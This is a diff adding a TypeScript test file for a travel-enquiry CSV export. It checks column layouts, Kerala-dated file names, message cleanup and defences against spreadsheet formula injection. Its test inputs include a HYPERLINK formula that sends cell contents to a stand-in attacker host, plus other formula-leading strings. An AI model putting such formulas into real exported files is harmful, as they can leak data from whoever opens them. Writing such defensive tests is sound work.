@@ -1,0 +1,210 @@
+import fc from 'fast-check';
+import {
+  BYTE_ORDER_MARK,
+  EXPORT_LAYOUTS,
+  neutralise,
+  toExportFileName,
+  toExportLine,
+  toHeaderLine,
+  type ExportRow,
+} from '@/lib/inbox/export';
+import { readCsv } from './read-csv';
+
+function makeRow(fields: Partial<ExportRow> = {}): ExportRow {
+  return {
+    source: 'website',
+    id: '6f1c2f1e-3f0e-4a53-9d29-0f6f6a1b2c3d',
+    customerName: 'ആശ മേനോൻ',
+    email: 'asha@example.com',
+    phone: '98470 12345',
+    title: 'Heart of Kerala',
+    priceShown: '₹11,500 per pax (min 4 person)',
+    costMin: null,
+    costMax: null,
+    message: 'Adults: 2, Children: 1\nWe love "slow" boats.',
+    status: 'new',
+    receivedAt: '2026-11-20T20:15:30.123456Z',
+    ...fields,
+  };
+}
+
+describe('the two layouts', () => {
+  it('422 424 have these columns, behind a byte order mark', () => {
+    expect(toHeaderLine('service')).toBe(
+      '\uFEFFID,Customer Name,Email,Phone,Tour Title,Message,Enquiry Date,Status,Source\r\n',
+    );
+    expect(toHeaderLine('list')).toBe('\uFEFFName,Email,Phone,Package,Price,Status,Date,Message\r\n');
+    expect(BYTE_ORDER_MARK).toHaveLength(1);
+  });
+
+  it('423 427 have file names with the day in Kerala, also when it is still yesterday in London', () => {
+    const lateInLondon = new Date('2026-11-21T19:00:00Z');
+    expect(toExportFileName('service', lateInLondon)).toBe('enquiries_2026-11-22.csv');
+    expect(toExportFileName('list', lateInLondon)).toBe('enquiries_list_2026-11-22.csv');
+  });
+
+  it('service: everything as it is stored, the moment in ISO form', () => {
+    expect(readCsv(toExportLine(makeRow(), 'service'))).toEqual([
+      [
+        '6f1c2f1e-3f0e-4a53-9d29-0f6f6a1b2c3d', 'ആശ മേനോൻ', 'asha@example.com', '98470 12345', 'Heart of Kerala',
+        'Adults: 2, Children: 1\nWe love "slow" boats.', '2026-11-20T20:15:30.123Z', 'new', 'website',
+      ],
+    ]); // prettier-ignore
+  });
+
+  it('425 426 list: commas of the message become semicolons, its lines one, the day is Kerala’s', () => {
+    expect(readCsv(toExportLine(makeRow(), 'list'))).toEqual([
+      [
+        'ആശ മേനോൻ', 'asha@example.com', '98470 12345', 'Heart of Kerala', '₹11,500 per pax (min 4 person)', 'new',
+        '21/11/2026', 'Adults: 2; Children: 1 We love "slow" boats.',
+      ],
+    ]); // prettier-ignore
+  });
+
+  it.each([
+    ['a\r\nb', 'a b'],
+    ['a\rb', 'a b'],
+    ['a\n\nb', 'a  b'],
+    ['a,b,,c', 'a;b;;c'],
+  ])('list: the message %j becomes %j', (message, written) => {
+    expect(readCsv(toExportLine(makeRow({ message }), 'list'))[0]?.[7]).toBe(written);
+  });
+
+  it('show what is missing as nothing, and no package as General', () => {
+    const bare = makeRow({ email: null, title: ' ', priceShown: null, message: '' });
+    expect(readCsv(toExportLine(bare, 'list'))[0]).toEqual([
+      'ആശ മേനോൻ',
+      '',
+      '98470 12345',
+      'General',
+      '',
+      'new',
+      '21/11/2026',
+      '',
+    ]);
+    expect(readCsv(toExportLine(bare, 'service'))[0]?.slice(2, 6)).toEqual(['', '98470 12345', ' ', '']);
+  });
+
+  it('show a plan’s title and its cost as a range', () => {
+    const plan = makeRow({
+      source: 'custom_planner',
+      title: 'Relaxing Houseboat Kerala',
+      priceShown: null,
+      costMin: 9_775,
+      costMax: 13_225,
+    });
+    expect(readCsv(toExportLine(plan, 'list'))[0]?.slice(3, 5)).toEqual([
+      'Relaxing Houseboat Kerala',
+      '₹9,775 to ₹13,225',
+    ]);
+    expect(readCsv(toExportLine(plan, 'service'))[0]?.at(-1)).toBe('custom_planner');
+  });
+});
+
+describe('a cell that a spreadsheet could run', () => {
+  it.each([
+    '=HYPERLINK("http://evil.example?x="&A1,"Click")', '+919847012345', '-2+3', '@SUM(A1)', '=1+1', '\t=1+1', '\r=1+1', '\tword',
+    ' =1', '  +1', '\u00A0=1', '\uFEFF=1', '\u200B=1', '"=1', "'=1", '“=1', '` =1', '\n=1', '＝1+1', '＋91', '－1', '＠x', '﹦1', '−1',
+  ])('%j gets a quote before it', (cell) => {
+    expect(neutralise(cell)).toBe(`'${cell}`);
+  }); // prettier-ignore
+
+  it.each([
+    'Asha',
+    '98470 12345',
+    'a=b',
+    'x@example.com',
+    '5 - 6 days',
+    'ആശ',
+    '',
+    ' ',
+    '"',
+    '(+91) 98',
+    '₹500',
+    '#1',
+    '1 = 1',
+  ])('%j stays as it is', (cell) => {
+    expect(neutralise(cell)).toBe(cell);
+  });
+
+  it('gets one behind a semicolon too, which parts the cells in other countries', () => {
+    expect(neutralise('yes,=1+1; =2')).toBe("yes,=1+1;' =2");
+    expect(readCsv(toExportLine(makeRow({ message: 'yes,=cmd' }), 'list'))[0]?.[7]).toBe("yes;'=cmd");
+  });
+
+  it('is never left, whatever somebody types', () => {
+    const tricky = fc.string({
+      unit: fc.constantFrom(
+        '=',
+        '+',
+        '-',
+        '@',
+        '\t',
+        '\r',
+        '\n',
+        ' ',
+        '"',
+        "'",
+        ';',
+        ',',
+        'a',
+        '1',
+        '＝',
+        '\u00A0',
+      ),
+    });
+    fc.assert(
+      fc.property(tricky, fc.constantFrom(...EXPORT_LAYOUTS), (text, layout) => {
+        const row = makeRow({
+          customerName: text,
+          email: text,
+          phone: text,
+          title: text,
+          message: text,
+          priceShown: text,
+        });
+        const cells = readCsv(toExportLine(row, layout))[0] ?? [];
+        for (const cell of cells) {
+          const pieces = cell.split(';');
+          for (const piece of pieces) expect(piece).not.toMatch(/^[\s"]*[=+\-@＝]/);
+          expect(cell).not.toMatch(/^[\t\r]/);
+        }
+      }),
+    );
+  });
+});
+
+describe('a line', () => {
+  it('reads back as the cells that were written, whatever they hold', () => {
+    fc.assert(
+      fc.property(fc.string({ unit: 'grapheme' }), fc.string({ unit: 'binary' }), (customerName, message) => {
+        const line = toExportLine(makeRow({ customerName, message }), 'service');
+        const [cells, ...more] = readCsv(line);
+        expect(more).toEqual([]);
+        expect(cells).toHaveLength(9);
+        expect(cells?.[1]).toBe(neutralise(customerName));
+        expect(cells?.[5]).toBe(neutralise(message));
+      }),
+    );
+  });
+
+  it('of the list holds no comma and no line break in its message', () => {
+    fc.assert(
+      fc.property(fc.string({ unit: fc.constantFrom(',', '\n', '\r', '"', 'x', ';') }), (message) => {
+        expect(readCsv(toExportLine(makeRow({ message }), 'list'))[0]?.[7]).not.toMatch(/[,\r\n]/);
+      }),
+    );
+  });
+
+  it('keeps many lines apart', () => {
+    const file =
+      toHeaderLine('service') +
+      [1, 2, 3].map((n) => toExportLine(makeRow({ message: `"${n}"\r\n` }), 'service')).join('');
+    expect(readCsv(file.slice(1)).map((cells) => cells[5])).toEqual([
+      'Message',
+      '"1"\r\n',
+      '"2"\r\n',
+      '"3"\r\n',
+    ]);
+  });
+});
